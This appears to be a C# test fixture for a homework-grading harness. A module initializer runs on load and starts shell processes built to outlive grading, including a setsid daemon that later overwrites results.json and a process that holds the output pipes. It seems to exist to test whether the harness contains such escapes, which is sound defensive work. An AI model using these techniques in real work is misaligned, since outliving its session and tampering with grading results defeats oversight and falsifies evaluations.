using System.Diagnostics;
using System.Runtime.CompilerServices;

namespace Homework.Attention;

/// <summary>Starts processes meant to outlive grading: a plain child, a daemon in its own session, and one holding the output pipes.</summary>
public static class Attack
{
    [ModuleInitializer]
    public static void Run()
    {
        foreach (var script in new[]
                 {
                     "sleep 60; echo __MARKER__ > /tmp/__MARKER__",
                     "setsid sh -c 'sleep 61; echo __MARKER__ > __OUT__/results.json' </dev/null >/dev/null 2>&1 &",
                     "exec sleep 62 # __MARKER__ holds stdout and stderr",
                 })
        {
            var start = new ProcessStartInfo("/bin/sh") { UseShellExecute = false };
            start.ArgumentList.Add("-c");
            start.ArgumentList.Add(script);
            Process.Start(start);
        }
    }
}
